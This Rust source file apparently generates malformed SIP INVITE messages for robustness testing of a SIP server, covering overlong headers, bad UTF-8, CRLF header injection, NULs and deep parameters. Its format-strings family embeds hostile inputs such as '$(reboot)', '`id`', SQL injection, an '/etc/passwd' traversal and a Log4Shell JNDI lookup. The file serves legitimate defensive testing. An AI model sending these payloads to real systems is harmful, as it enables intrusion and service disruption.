//! The families. Each is a list of what is put where.

use super::draft::Invite;
use super::{Fate, Malformed};
use Fate::{Challenged, Dropped, Refused, Survived};

/// Collects the messages of one domain.
struct Table {
    domain: String,
    all: Vec<Malformed>,
}

impl Table {
    fn add(&mut self, family: &'static str, name: impl Into<String>, invite: &Invite, fate: Fate) {
        self.all.push(Malformed {
            family,
            name: name.into(),
            bytes: invite.bytes(),
            fate,
            as_datagram: fate,
        });
    }

    /// Says of the message that was added last what else may come of it as a datagram.
    fn as_datagram(&mut self, fate: Fate) {
        if let Some(last) = self.all.last_mut() {
            last.as_datagram = fate;
        }
    }

    fn invite(&self) -> Invite {
        Invite::to(&self.domain)
    }
}

/// Returns all messages, to a user of this domain.
#[must_use]
pub fn all(domain: &str) -> Vec<Malformed> {
    let mut table = Table {
        domain: domain.to_owned(),
        all: Vec::new(),
    };
    let families = [
        overlong,
        format_strings,
        bad_utf8,
        missing,
        repeated,
        numbers,
        session_descriptions,
        nested,
        line_ends,
        nulls,
        deep_parameters,
        many_lines,
        broken_hosts,
        start_lines,
    ];
    families.iter().for_each(|family| family(&mut table));
    table.all
}

/// Where a value stands in a header, with a mark for it.
type Place = (&'static str, &'static str);

const PLACES: [Place; 10] = [
    ("From", "\"*\" <sip:a@b.invalid>;tag=1"),
    ("To", "\"*\" <sip:victim@b.invalid>"),
    ("Call-ID", "*"),
    ("Subject", "*"),
    ("User-Agent", "*"),
    ("Contact", "\"*\" <sip:a@b.invalid>"),
    ("Via", "SIP/2.0/TLS spoiled.invalid;branch=z9hG4bK*"),
    ("CSeq", "1 *"),
    ("X-Unknown", "*"),
    ("Call-Info", "<http://*>"),
];

/// Puts bytes where the mark is.
fn filled(form: &str, what: &[u8]) -> Vec<u8> {
    let (before, after) = form.split_once('*').unwrap_or((form, ""));
    [before.as_bytes(), what, after.as_bytes()].concat()
}

/// A header whose value means nothing to a server.
fn is_opaque(name: &str) -> bool {
    ["Subject", "User-Agent", "X-Unknown", "Call-Info"].contains(&name)
}

fn overlong(table: &mut Table) {
    for (header, form) in PLACES {
        for length in [256, 4_096, 20_000, 70_000] {
            let invite = table
                .invite()
                .says(header, filled(form, &vec![b'A'; length]));
            let fate = match length {
                256 | 4_096 if is_opaque(header) => Challenged,
                256 | 4_096 => Survived,
                _ => Refused,
            };
            table.add("overlong", format!("{header} of {length}"), &invite, fate);
        }
    }
    for length in [256, 4_096, 70_000] {
        let long = "a".repeat(length);
        let starts = [
            (
                "user",
                format!("INVITE sip:{long}@{} SIP/2.0", table.domain),
            ),
            ("host", format!("INVITE sip:victim@{long} SIP/2.0")),
            (
                "method",
                format!("{long} sip:victim@{} SIP/2.0", table.domain),
            ),
            (
                "version",
                format!("INVITE sip:victim@{} SIP/{long}", table.domain),
            ),
        ];
        for (place, start) in starts {
            let invite = table.invite().start(start);
            let fate = if length == 70_000 { Refused } else { Survived };
            table.add("overlong", format!("{place} of {length}"), &invite, fate);
        }
    }
}

fn format_strings(table: &mut Table) {
    let strings = [
        "%s%s%s%n%n%n",
        "%99999999d",
        "%p%p%p%p%x%x",
        "$(reboot)",
        "`id`",
        "' OR 1=1 --",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "${jndi:ldap://x.invalid/a}",
    ];
    for string in strings {
        for (header, form) in PLACES {
            let invite = table.invite().says(header, filled(form, string.as_bytes()));
            let fate = if is_opaque(header) {
                Challenged
            } else {
                Survived
            };
            table.add(
                "format strings",
                format!("{string} in {header}"),
                &invite,
                fate,
            );
        }
    }
}

fn bad_utf8(table: &mut Table) {
    let strings: [&[u8]; 6] = [
        b"\xff\xfe",
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\x80",
        b"\xe2\x82",
    ];
    for string in strings {
        for (header, form) in PLACES {
            let invite = table.invite().says(header, filled(form, string));
            let fate = if is_opaque(header) {
                Challenged
            } else {
                Survived
            };
            table.add(
                "bad UTF-8",
                format!("{string:x?} in {header}"),
                &invite,
                fate,
            );
        }
        let start = [b"INVITE sip:".as_slice(), string, b"@contoso.com SIP/2.0"].concat();
        let invite = table.invite().start(start);
        table.add(
            "bad UTF-8",
            format!("{string:x?} in the URI"),
            &invite,
            Refused,
        );
    }
}

const MANDATORY: [&str; 4] = ["From", "To", "Call-ID", "CSeq"];

fn missing(table: &mut Table) {
    for (at, one) in MANDATORY.iter().enumerate() {
        let invite = table.invite().lacks(one);
        table.add("missing", *one, &invite, Refused);
        for other in &MANDATORY[at + 1..] {
            let invite = invite.clone().lacks(other);
            table.add("missing", format!("{one} and {other}"), &invite, Refused);
        }
        let invite = table.invite().says(one, "");
        table.add("missing", format!("{one} is empty"), &invite, Refused);
    }
    let invite = table.invite().lacks("Via");
    table.add("missing", "Via", &invite, Survived);
    let invite = table.invite().lacks("Max-Forwards");
    table.add("missing", "Max-Forwards", &invite, Challenged);
    let invite = table.invite().lacks("Contact");
    table.add("missing", "Contact", &invite, Survived);
    let invite = table.invite().lacks("Content-Length");
    table.add("missing", "Content-Length", &invite, Refused);
    // Only a stream needs the length; a datagram ends by itself.
    table.as_datagram(Challenged);
}

fn repeated(table: &mut Table) {
    let lines = [
        ("From", "<sip:other@b.invalid>;tag=2"),
        ("To", "<sip:other@b.invalid>"),
        ("Call-ID", "other"),
        ("CSeq", "2 INVITE"),
        ("Max-Forwards", "3"),
        ("Content-Length", "7"),
    ];
    for (name, value) in lines {
        let invite = table.invite().adds(name, value);
        table.add("repeated", name, &invite, Refused);
    }
}

fn numbers(table: &mut Table) {
    let odd = [
        "-1",
        "4294967296",
        "99999999999999999999999",
        "0x10",
        "1e5",
        "+1",
        "",
        "ten",
        "1 1",
    ];
    for number in odd {
        let invite = table.invite().says("CSeq", format!("{number} INVITE"));
        table.add("numbers", format!("CSeq {number:?}"), &invite, Refused);
        for header in ["Max-Forwards", "Content-Length"] {
            let invite = table.invite().says(header, number);
            table.add("numbers", format!("{header} {number:?}"), &invite, Refused);
        }
        for header in ["Expires", "Session-Expires"] {
            let invite = table.invite().says(header, number);
            table.add("numbers", format!("{header} {number:?}"), &invite, Survived);
        }
        // A proxy acts on none of these, so it does not refuse what it need not understand.
        for header in ["Min-Expires", "Timestamp", "Retry-After", "RSeq"] {
            let invite = table.invite().says(header, number);
            let name = format!("{header} {number:?}");
            table.add("numbers", name, &invite, Challenged);
        }
        let via =
            format!("SIP/2.0/TLS spoiled.invalid:{number};branch=z9hG4bKspoiled;ttl={number}");
        let invite = table.invite().says("Via", via);
        table.add(
            "numbers",
            format!("port {number:?} in Via"),
            &invite,
            Survived,
        );
        let invite = table.invite().start(format!(
            "INVITE sip:victim@{}:{number} SIP/2.0",
            table.domain
        ));
        table.add(
            "numbers",
            format!("port {number:?} in the URI"),
            &invite,
            Survived,
        );
    }
}

fn session_descriptions(table: &mut Table) {
    let long = format!("v=0\r\ns={}\r\n", "x".repeat(30_000));
    let many = format!("v=0\r\n{}", "a=x:y\r\n".repeat(4_000));
    let bodies: [(&str, &str); 11] = [
        ("nothing", ""),
        ("only a version", "v=0"),
        ("a huge version", "v=99999999999999999999\r\n"),
        ("a negative port", "v=0\r\nm=audio -1 RTP/AVP 0\r\n"),
        ("a huge port", "v=0\r\nm=audio 4294967297 RTP/AVP 0\r\n"),
        ("no order", "m=audio 1 RTP/AVP 0\r\nv=0\r\ns=-\r\n"),
        ("line feeds", "v=0\no=- 1 1 IN IP4 1.2.3.4\ns=-\n"),
        ("NULs", "v=0\r\no=\0\0\0\r\n"),
        ("no address", "v=0\r\nc=IN IP4 999.999.999.999\r\n"),
        ("a long line", &long),
        ("thousands of attributes", &many),
    ];
    for (name, body) in bodies {
        let invite = table.invite().body("application/sdp", body);
        table.add("session descriptions", name, &invite, Challenged);
    }
}

fn nested(table: &mut Table) {
    let mut parts = String::new();
    for level in 0..200 {
        parts.push_str(&format!(
            "--b{level}\r\nContent-Type: multipart/mixed;boundary=b{}\r\n\r\n",
            level + 1
        ));
    }
    let invite = table.invite().body("multipart/mixed;boundary=b0", parts);
    table.add("nested encodings", "200 multiparts", &invite, Challenged);
    for (name, text) in [
        ("comments", "(".repeat(2_000)),
        (
            "closed comments",
            format!("{}{}", "(".repeat(2_000), ")".repeat(2_000)),
        ),
        ("quotes", "\"\\\"".repeat(2_000)),
        ("a quote never closed", "\"never".to_owned()),
        ("backslashes", "\\".repeat(2_001)),
        ("angles", "<".repeat(2_000)),
        ("percents of percents", format!("%{}41", "25".repeat(1_000))),
    ] {
        let invite = table.invite().says("User-Agent", text.clone());
        table.add(
            "nested encodings",
            format!("{name} in User-Agent"),
            &invite,
            Challenged,
        );
        let invite = table
            .invite()
            .says("From", format!("{text}<sip:a@b.invalid>;tag=1"));
        table.add(
            "nested encodings",
            format!("{name} in From"),
            &invite,
            Survived,
        );
        let invite = table.invite().says("Contact", text);
        table.add(
            "nested encodings",
            format!("{name} in Contact"),
            &invite,
            Survived,
        );
    }
    for user in ["%00", "%0d%0a", "%25%30%30", "%", "%4", "%zz", "%e2%82"] {
        let invite = table
            .invite()
            .start(format!("INVITE sip:{user}@{} SIP/2.0", table.domain));
        table.add(
            "nested encodings",
            format!("{user} in the URI"),
            &invite,
            Survived,
        );
    }
}

fn line_ends(table: &mut Table) {
    for (name, end) in [
        ("bare line feeds", b"\n".as_slice()),
        ("bare carriage returns", b"\r\r\n"),
        ("a space before each end", b" \r\n"),
    ] {
        let invite = table.invite().ends(end);
        table.add("line ends", name, &invite, Survived);
    }
    for (name, value) in [
        (
            "an injected line",
            "x\r\nVia: SIP/2.0/TLS other.invalid;branch=z9hG4bKother",
        ),
        ("an injected request", "x\r\n\r\nOPTIONS sip:a SIP/2.0"),
        ("a line feed", "x\ny"),
        ("a carriage return", "x\ry"),
        ("a fold into nothing", "x\r\n \r\n \r\n y"),
        ("a line of white space", "x\r\n   \t  "),
    ] {
        let invite = table.invite().says("Subject", value);
        table.add("line ends", format!("{name} in Subject"), &invite, Survived);
        let invite = table.invite().says("Call-ID", value);
        table.add("line ends", format!("{name} in Call-ID"), &invite, Survived);
    }
}

fn nulls(table: &mut Table) {
    for (header, form) in PLACES {
        let invite = table.invite().says(header, filled(form, b"a\0b"));
        table.add("NULs", header, &invite, Survived);
    }
    let invite = table
        .invite()
        .start("INVITE sip:vic\0tim@contoso.com SIP/2.0");
    table.add("NULs", "the URI", &invite, Refused);
    let invite = table
        .invite()
        .start("INV\0ITE sip:victim@contoso.com SIP/2.0");
    table.add("NULs", "the method", &invite, Refused);
    let invite = table
        .invite()
        .body("application/octet-stream", vec![0; 4_096]);
    table.add("NULs", "the body", &invite, Challenged);
}

fn deep_parameters(table: &mut Table) {
    for count in [10, 500, 3_000] {
        let fate = if count == 3_000 { Refused } else { Survived };
        let parameters = ";p=q".repeat(count);
        let via = format!("SIP/2.0/TLS spoiled.invalid;branch=z9hG4bKspoiled{parameters};x");
        let headers = "&h=v".repeat(count);
        let many = [
            (
                "From",
                table.invite().says(
                    "From",
                    format!("<sip:a@b.invalid>;tag=1{parameters};xx=yyyy{parameters}"),
                ),
            ),
            (
                "Via",
                table.invite().says(
                    "Via",
                    via.clone() + &via.replace("SIP/2.0/TLS spoiled.invalid", ""),
                ),
            ),
            (
                "Contact",
                table.invite().says(
                    "Contact",
                    format!("<sip:a@b.invalid{parameters}{parameters}>"),
                ),
            ),
            (
                "the URI",
                table.invite().start(format!(
                    "INVITE sip:victim@{}{parameters}{parameters} SIP/2.0",
                    table.domain
                )),
            ),
            (
                "headers of the URI",
                table.invite().start(format!(
                    "INVITE sip:victim@{}?a=b{headers}{headers} SIP/2.0",
                    table.domain
                )),
            ),
        ];
        for (place, invite) in many {
            table.add(
                "deep parameters",
                format!("{count} in {place}"),
                &invite,
                fate,
            );
        }
    }
}

fn many_lines(table: &mut Table) {
    let lines = [
        ("Via", "SIP/2.0/TLS hop.invalid;branch=z9hG4bKhop"),
        ("Route", "<sip:hop.invalid;lr>"),
        ("Record-Route", "<sip:hop.invalid;lr>"),
        ("Contact", "<sip:hop.invalid>"),
        ("Proxy-Authorization", "Digest username=\"x\""),
        ("Supported", "path"),
    ];
    for (name, value) in lines {
        for count in [60, 500, 5_000] {
            let fate = if count == 60 { Survived } else { Refused };
            let rows = (0..count).fold(table.invite(), |invite, _| invite.adds(name, value));
            table.add(
                "many lines",
                format!("{count} lines of {name}"),
                &rows,
                fate,
            );
            let list = vec![value; count].join(",");
            let invite = table.invite().adds(name, list);
            let fate = if count == 5_000 { Refused } else { Survived };
            table.add(
                "many lines",
                format!("{count} values of {name}"),
                &invite,
                fate,
            );
        }
    }
}

fn broken_hosts(table: &mut Table) {
    for host in [
        "[::1",
        "[[::1]]",
        "[1:2:3:4:5:6:7:8:9]",
        "[::ffff:999.1.1.1]",
        "[]",
        "1.2.3.4.5",
        "-",
        ".",
        "a..b",
    ] {
        let invite = table
            .invite()
            .start(format!("INVITE sip:victim@{host} SIP/2.0"));
        table.add(
            "broken hosts",
            format!("{host} in the URI"),
            &invite,
            Survived,
        );
        let invite = table
            .invite()
            .says("Via", format!("SIP/2.0/TLS {host};branch=z9hG4bKspoiled"));
        table.add("broken hosts", format!("{host} in Via"), &invite, Survived);
        let invite = table.invite().says("Contact", format!("<sip:a@{host}>"));
        table.add(
            "broken hosts",
            format!("{host} in Contact"),
            &invite,
            Survived,
        );
    }
}

fn start_lines(table: &mut Table) {
    let uri = format!("sip:victim@{}", table.domain);
    let refused = [
        format!("INVITE {uri}"),
        format!("INVITE  {uri} SIP/2.0"),
        format!("INVITE {uri} SIP/2.0 more"),
        format!("INVITE <{uri}> SIP/2.0"),
        format!("INVITE {uri} SIP/9.9"),
        format!("INVITE {uri} HTTP/1.1"),
        format!("INVITE {uri} SIP/"),
        format!("INV\"ITE {uri} SIP/2.0"),
        "INVITE sip: SIP/2.0".to_owned(),
        "INVITE sip:@ SIP/2.0".to_owned(),
        "INVITE  SIP/2.0".to_owned(),
        "INVITE".to_owned(),
        "INVITE mailto:a@b SIP/2.0".to_owned(),
        "INVITE http://a/b SIP/2.0".to_owned(),
        format!("INVITE\t{uri}\tSIP/2.0"),
        format!(" INVITE {uri} SIP/2.0"),
        // The method of CSeq is another; methods are told apart by case (RFC 3261 7.1).
        format!("invite {uri} SIP/2.0"),
        format!("OPTIONS {uri} SIP/2.0"),
        format!("CANCEL {uri} SIP/2.0"),
    ];
    for start in refused {
        let invite = table.invite().start(start.clone());
        table.add("start lines", start, &invite, Refused);
    }
    // Nobody answers an ACK (RFC 3261 17.1.1.3), nor a response that belongs to nothing (18.1.2).
    for start in [format!("ACK {uri} SIP/2.0"), "SIP/2.0 200 OK".to_owned()] {
        let invite = table.invite().start(start.clone());
        table.add("start lines", start, &invite, Dropped);
    }
    let free = [
        "SIP/2.0 0 Zero".to_owned(),
        "SIP/2.0 99 Low".to_owned(),
        "SIP/2.0 700 High".to_owned(),
        "SIP/2.0 99999 Higher".to_owned(),
        "SIP/2.0 -1 Lower".to_owned(),
        "SIP/2.0".to_owned(),
    ];
    for start in free {
        let invite = table.invite().start(start.clone());
        table.add("start lines", start, &invite, Survived);
    }
}
